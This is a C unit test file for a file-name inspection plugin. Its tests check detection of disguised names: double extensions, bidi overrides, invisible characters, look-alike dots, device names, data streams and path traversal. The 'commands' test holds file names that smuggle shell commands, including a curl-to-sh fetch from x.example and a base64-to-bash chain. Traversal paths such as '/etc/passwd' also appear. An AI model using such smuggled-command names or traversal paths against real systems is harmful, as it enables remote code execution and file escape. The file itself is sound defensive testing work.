/* SPDX-License-Identifier: Apache-2.0
 * Copyright The Sekisho authors */

/**
 * @file
 * Names, what is told of them, and honest names of which nothing is.
 */
#include "config.h"

#include "fake-api.h"
#include "name-text.h"
#include "sk-test.h"

extern const SkPlugin sekisho_plugin;

static SkObject *
look (const char *name)
{
  g_autoptr (SkSetup) setup = sk_fake_setup_new (&sekisho_plugin);
  void *context = NULL;
  ck_assert_int_eq (sekisho_plugin.configure (sk_fake_api (), setup, &context), SK_OK);
  ck_assert_ptr_nonnull (context);
  SkObject *object = sk_fake_object_new (&sekisho_plugin, name, "x", 1);
  ck_assert_int_eq (sekisho_plugin.identify (sk_fake_api (), context, object), SK_OK);
  return object;
}

/* All facts but the extensions, as `noun=value` in the order of telling. */
static char *
told (const char *name, bool extensions)
{
  g_autoptr (SkObject) object = look (name);
  GString *all = g_string_new (NULL);
  for (guint i = 0; i < object->facts->len; i++)
    {
      const SkFakeFact *fact = g_ptr_array_index (object->facts, i);
      const char *noun = sekisho_plugin.facts[fact->fact].name + strlen ("name.");
      if (g_str_has_suffix (noun, "extension") != extensions)
        continue;
      g_string_append_printf (all, "%s%s=", all->len > 0 ? " " : "", noun);
      if (fact->type == SK_FIELD_INT)
        g_string_append_printf (all, "%d", (int) fact->integer);
      else
        g_string_append (all, fact->text);
    }
  return g_string_free (all, FALSE);
}

static void
is (const char *name, const char *facts)
{
  g_autofree char *got = told (name, false);
  ck_assert_msg (strcmp (got, facts) == 0, "%s: expected \"%s\", got \"%s\"", name, facts, got);
}

static void
parts (const char *name, const char *facts)
{
  g_autofree char *got = told (name, true);
  ck_assert_msg (strcmp (got, facts) == 0, "%s: expected \"%s\", got \"%s\"", name, facts, got);
}

START_TEST (extensions)
{
  parts ("請求書.pdf.exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("請求書.PDF.Exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("plain.txt", "extension=txt");
  parts ("none", "");
  parts ("", "");
  parts (".bashrc", "");
  parts (".pdf.exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("..", "");
  parts ("a..b", "extension=b");
  parts ("x.pdf .exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("x.pdf     .exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("x.exe. .", "extension=exe");
  parts ("Dr. Smith report", "");
  parts ("a.docx.id[1A2B3C4D-1234].[x@y.example].eking",
         "extension=eking inner-extension=example] earlier-extension=docx "
         "earlier-extension=[x@y earlier-extension=example]");
  parts ("a.b.c.d.e.f.g.h.i.j.k",
         "extension=k inner-extension=j earlier-extension=c earlier-extension=d "
         "earlier-extension=e earlier-extension=f earlier-extension=g earlier-extension=h "
         "earlier-extension=i earlier-extension=j");
}
END_TEST

START_TEST (extensions_as_people_read_them)
{
  /* Full-width letters and dots, half-width kana, what is not seen. */
  parts ("見積書．ｐｄｆ．ｅｘｅ", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("ｾｲｷｭｳｼｮ.pdf.exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("見積書.pdf\u3000\u3000\u3000\u3000\u3000.exe",
         "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("見積書.p\u200bdf.e\ufeffxe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("見積\u202efdp.exe", "extension=exe");
  parts ("x.pdf\u2800\u2800\u2800.exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  parts ("x\u2024pdf.exe", "extension=exe inner-extension=pdf earlier-extension=pdf");
  /* An ellipsis is three dots with nothing between. */
  parts ("お知らせ….pdf", "extension=pdf");
  parts ("No．5.xlsx", "extension=xlsx inner-extension=5 earlier-extension=5");
}
END_TEST

START_TEST (lesson_of_double_extensions)
{
  parts ("post.pdf_kopija.zip",
         "extension=zip inner-extension=pdf_kopija earlier-extension=pdf_kopija");
  parts ("a.xlsx.xlsx", "extension=xlsx inner-extension=xlsx earlier-extension=xlsx");
  parts ("report.v1.2.exe",
         "extension=exe inner-extension=2 earlier-extension=v1 earlier-extension=2");
  parts ("jquery.min.js", "extension=js inner-extension=min earlier-extension=min");
}
END_TEST

START_TEST (bidi)
{
  is ("見積\u202efdp.exe", "bidi=U+202E");
  is ("\u202aA\u202c\u202aB", "bidi=U+202A bidi=U+202C");
  is ("a\u2066b\u2069", "bidi=U+2066 bidi=U+2069");
  is ("見積書.pdf", "");
}
END_TEST

START_TEST (invisible)
{
  is ("請求\u200b書.pdf", "invisible=U+200B");
  is ("\ufeffreport.txt", "invisible=U+FEFF");
  is ("report\u200e.txt", "invisible=U+200E");
  is ("a\u200db.txt", "invisible=U+200D");
  is ("a\u2060\u2060\u200c.txt", "invisible=U+2060 invisible=U+200C");
  is ("re\u00adport.txt", "invisible=U+00AD");
  is ("a\ufe0f.txt", "invisible=U+FE0F");
  is ("葛\U000e0100\U000e0101.txt", "invisible=U+E0101");
  is ("a\U000e0041\U000e0042.txt", "invisible=U+E0041 invisible=U+E0042");
  is ("x\u3164.exe", "invisible=U+3164");
  is ("x\u2800.exe", "invisible=U+2800");
}
END_TEST

START_TEST (invisible_in_its_place)
{
  /* Ideographs with their variants, as Japanese family names have them. */
  is ("葛\U000e0100城市.pdf", "");
  is ("辻\U000e0101様.docx", "");
  is ("神\ufe00.txt", "");
  is ("か\u3099.txt", "");
  /* Emoji: a family, a keycap, a heart, the flag of Wales. */
  is ("👨\u200d👩\u200d👧.png", "");
  is ("❤\ufe0f\u200d🔥.png", "");
  is ("👩🏽\u200d💻.png", "");
  is ("1\ufe0f\u20e3*\ufe0f\u20e3.txt", "");
  is ("🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f.png", "");
  /* Persian, Hindi, Thai, Hebrew. */
  is ("می\u200cخواهم.pdf", "");
  is ("क\u094d\u200dष.txt", "");
  is ("ภาษา\u200bไทย.txt", "");
  is ("שלום\u200f.txt", "");
  /* Braille, old Hangul. */
  is ("⠓⠑⠇⠇⠕\u2800⠺.txt", "");
  is ("\u1100\u1160\u11a8.txt", "");
}
END_TEST

START_TEST (blanks)
{
  is ("x.pdf     .exe", "space-run=5");
  is ("x.pdf \u3000\u00a0\u2003\u200b .exe", "invisible=U+200B space-run=5");
  is ("x.pdf\u2800\u2800\u2800\u2800\u2800.exe", "invisible=U+2800 space-run=5");
  is ("山田\u3000\u3000太郎.docx", "space-run=2");
  is ("a b c.txt", "");
}
END_TEST

START_TEST (dots)
{
  is ("請求書．exe", "dot-like=U+FF0E");
  is ("請求書．ｅｘｅ", "dot-like=U+FF0E");
  is ("invoice\u2024exe", "dot-like=U+2024");
  is ("請求書。exe", "dot-like=U+3002");
  is ("１．概要.docx", "");
  is ("お知らせです。", "");
  is ("第１．２版の資料.pdf", "");
  is ("．exe", "");
}
END_TEST

START_TEST (scripts)
{
  is ("inv\u043eice.pdf", "mixed-script=cyrillic");
  is ("P\u0430ypal.exe", "mixed-script=cyrillic");
  is ("inv\u03bfice.pdf", "mixed-script=greek");
  is ("отчёт за май.docx", "");
  is ("μPD780.pdf", "");
  is ("10kΩ.xlsx", "");
  is ("Δt測定.csv", "");
  is ("βversion.zip", "");
  is ("(´Д｀).txt", "");
  is ("設計Ｖｅｒ２.dwg", "");
  is ("в1.docx", "");
}
END_TEST

START_TEST (shortcuts)
{
  is ("写真.lnk", "dotted-stem=.写真");
  is ("a.b.LNK", "dotted-stem=.a.b");
  is (".lnk", "");
  is ("写真.url", "");
}
END_TEST

START_TEST (devices)
{
  is ("CON", "device=con");
  is ("aux.txt", "device=aux");
  is ("Lpt1.log.txt", "device=lpt1");
  is ("COM¹", "device=com1");
  is ("ｎｕｌ.dat", "device=nul");
  is ("con .x", "device=con");
  is ("conin .x", "");
  is ("nul:a", "device=nul");
  is ("CONIN$", "device=conin$");
  is ("console.log", "");
  is ("com10", "");
  is ("auxiliary", "");
  is ("icon", "");
}
END_TEST

START_TEST (ends)
{
  is ("x.exe.", "trailing=dot");
  is ("x.pdf ", "trailing=space");
  is ("x.pdf\u3000", "trailing=space");
  is ("x.pdf", "");
}
END_TEST

START_TEST (streams)
{
  is ("a.txt:b.exe", "stream=b.exe");
  is ("a.txt:b:$DATA", "stream=b:$DATA");
  is ("a.txt:..\\..\\x.lnk", "dotted-stem=.a.txt:..\\..\\x stream=..\\..\\x.lnk");
  is ("請求書.pdf:Zone.Identifier", "stream=Zone.Identifier");
  is ("2026-11-25T12:30:00.log", "");
  is ("Foo::Bar.3pm", "");
  is ("a.b:c:d", "");
  is ("pci-0000:00", "");
  is ("Re: report.txt", "");
  is ("v1.0: notes", "");
  is ("1382298770.M1P2.host.example:2,S", "");
}
END_TEST

START_TEST (commands)
{
  is ("a.pdf`{echo,aWQ=}|{base64,-d}|bash`",
      "shell-mark=brace-list shell-mark=backtick shell-mark=pipe "
      "shell-word=echo shell-word=base64 shell-word=bash");
  is ("$(curl x.example|sh).pdf",
      "shell-mark=substitution shell-mark=pipe shell-word=sh shell-word=curl");
  is ("a;wget${IFS}x", "shell-mark=variable shell-mark=separator shell-word=wget");
  is ("a\u3000&& echo x", "shell-mark=separator shell-word=echo");
  /* Placeholders, sets with blanks, full-width brackets, extensions. */
  is ("{id}.txt", "");
  is ("{{cookiecutter.bash}}.sh", "");
  is ("{1, 2}.txt", "");
  is ("｛案，改｝.docx", "");
  is ("how to use bash and echo.txt", "");
  is ("a|b.sh", "shell-mark=pipe");
  is ("it`s.txt", "");
  is ("5 > 3.txt", "shell-mark=redirection");
}
END_TEST

START_TEST (honest_names)
{
  static const char *const names[] = {
    "見積書_20261125_株式会社関所.xlsx",
    "【重要】御請求書（１１月分）.pdf",
    "議事録 2026.11.25.docx",
    "ｻﾝﾌﾟﾙ.csv",
    "〜重要〜.txt",
    "髙橋①様.docx",
    "が.txt",
    "Ⅲ期計画.pptx",
    "①②③.zip",
    "._見積書.docx",
    "__MACOSX",
    ".DS_Store",
    "~$見積書.docx",
    "Thumbs.db",
    "foo.tar.gz",
    "libfoo.so.1.2.3",
    "node-v20.1.0-linux-x64.tar.xz",
    "main.4f3a2b1c.chunk.js",
    "LICENSE",
    "python3-3.11.2.dist-info",
    "setup.2024.05.exe",
    "a+b=c!.txt",
    "C++ (1).pdf",
    "#1 50%.txt",
    "it's [draft].md",
    "\\x83\\x5c\\x95\\xb6.txt",
    "☎連絡先.txt",
    "…",
    "α版.docx",
    "3σ.xlsx",
  };
  for (size_t i = 0; i < G_N_ELEMENTS (names); i++)
    is (names[i], "");
}
END_TEST

START_TEST (long_names)
{
  g_autoptr (GString) name = g_string_new (NULL);
  for (size_t i = 0; i < 1365; i++)
    g_string_append (name, "\ufdfa");
  is (name->str, "");
  g_string_assign (name, "");
  for (size_t i = 0; i < 2048; i++)
    g_string_append (name, "a.");
  is (name->str, "trailing=dot");
  /* More kinds than are told. */
  g_string_assign (name, "");
  for (size_t i = 0; i < 100; i++)
    g_string_append_unichar (name, (gunichar) (0xe0180 + i));
  g_autoptr (SkObject) object = look (name->str);
  ck_assert_uint_eq (object->facts->len, 16);
}
END_TEST

static void
escapes (const char *path, uint32_t bits)
{
  ck_assert_msg (name_escapes_of (path) == bits, "%s: expected %u, got %u", path, bits,
                 name_escapes_of (path));
}

START_TEST (paths_out_of_a_container)
{
  escapes ("../x", NAME_ESCAPES_PARENT);
  escapes ("a/../../x", NAME_ESCAPES_PARENT);
  escapes ("a\\..\\..\\x", NAME_ESCAPES_PARENT);
  escapes ("図面/../..", NAME_ESCAPES_PARENT);
  escapes ("a/.. /x", NAME_ESCAPES_SPACED);
  escapes ("/.. /.. /x", NAME_ESCAPES_ABSOLUTE | NAME_ESCAPES_SPACED);
  escapes ("/etc/passwd", NAME_ESCAPES_ABSOLUTE);
  escapes ("\\Windows\\x", NAME_ESCAPES_ABSOLUTE);
  escapes ("\\\\host\\share\\x", NAME_ESCAPES_UNC);
  escapes ("C:\\x", NAME_ESCAPES_DRIVE);
  escapes ("c:x\\y", NAME_ESCAPES_DRIVE);
  escapes ("c:..\\x", NAME_ESCAPES_DRIVE);
  escapes ("a/CON/x", NAME_ESCAPES_DEVICE);
  escapes ("nul.txt", NAME_ESCAPES_DEVICE);
  escapes ("COM1 .log", NAME_ESCAPES_DEVICE);
}
END_TEST

START_TEST (paths_that_stay)
{
  static const char *const paths[]
      = { "", ".", "./x", "a/../x", "a/./b", "..x", "x..", "a/.../b", "a//b", "a/b/../../x",
          "console/x", "図面/表.txt", "common.dll", "com10/x", "1:2", "a:Zone.Identifier", "a b/c d", "Ver.1..2" };
  for (size_t i = 0; i < G_N_ELEMENTS (paths); i++)
    escapes (paths[i], 0);
}
END_TEST

START_TEST (links_out_of_a_container)
{
  static const struct
  {
    const char *path, *target;
    bool out;
  } links[] = {
    { "a", "b", false },           { "a/b", "../c", false },   { "a/b/c", "../../d", false },
    { "a", "../c", true },         { "a/b", "../../c", true }, { "a", "/etc/passwd", true },
    { "a", "C:\\x", true },        { "a/b", "", false },       { "lib/x.so", "x.so.1", false },
    { "dev/stdout", "con", false }, { "../a", "b", false },  { "a\\b\\c", "..\\x", false },
    { "a\\b\\c", "..\\..\\..\\x", true },
  };
  for (size_t i = 0; i < G_N_ELEMENTS (links); i++)
    ck_assert_msg (name_link_escapes (links[i].path, sk_span_of_text (links[i].target))
                       == links[i].out,
                   "%s -> %s", links[i].path, links[i].target);
}
END_TEST

int
main (void)
{
  Suite *suite = suite_create ("name");
  TCase *cases = tcase_create ("name");
  tcase_add_test (cases, extensions);
  tcase_add_test (cases, extensions_as_people_read_them);
  tcase_add_test (cases, lesson_of_double_extensions);
  tcase_add_test (cases, bidi);
  tcase_add_test (cases, invisible);
  tcase_add_test (cases, invisible_in_its_place);
  tcase_add_test (cases, blanks);
  tcase_add_test (cases, dots);
  tcase_add_test (cases, scripts);
  tcase_add_test (cases, shortcuts);
  tcase_add_test (cases, devices);
  tcase_add_test (cases, ends);
  tcase_add_test (cases, streams);
  tcase_add_test (cases, commands);
  tcase_add_test (cases, honest_names);
  tcase_add_test (cases, long_names);
  tcase_add_test (cases, paths_out_of_a_container);
  tcase_add_test (cases, paths_that_stay);
  tcase_add_test (cases, links_out_of_a_container);
  suite_add_tcase (suite, cases);
  return sk_test_main (suite);
}
